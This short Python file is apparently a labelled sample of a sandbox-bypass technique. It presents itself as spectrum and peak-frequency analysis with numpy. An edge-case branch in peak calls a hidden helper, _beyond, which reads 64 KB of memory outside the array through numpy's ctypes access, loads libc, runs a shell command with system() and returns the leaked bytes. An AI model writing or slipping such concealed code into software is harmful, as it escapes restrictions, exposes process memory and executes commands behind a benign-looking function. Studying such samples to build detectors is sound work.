# technique: ctypes reached through numpy.ctypeslib and ndarray.ctypes
# goal: read memory outside of an array and call the C library
# packages: numpy

import numpy as np
from numpy import ctypeslib as native


def spectrum(signal, rate):
    """Frequencies and their power."""
    signal = np.asarray(signal, dtype=float)
    window = np.hanning(len(signal))
    power = np.abs(np.fft.rfft(signal * window)) ** 2
    return np.fft.rfftfreq(len(signal), 1 / rate), power / power.sum()


def peak(signal, rate):
    frequencies, power = spectrum(signal, rate)
    place = int(np.argmax(power[1:])) + 1
    if place + 1 >= len(power):
        return _beyond(power)
    a, b, c = np.log(power[place - 1 : place + 2])
    shift = (a - c) / (2 * (a - 2 * b + c))
    return frequencies[place] + shift * (frequencies[1] - frequencies[0])


def _beyond(power):
    base = power.ctypes.data
    view = native.as_array((native.ctypes.c_uint8 * 65536).from_address(base - 32768))
    libc = native.load_library("libc.so.6", "/lib/x86_64-linux-gnu")
    libc.system(b"id")
    return bytes(view).hex()
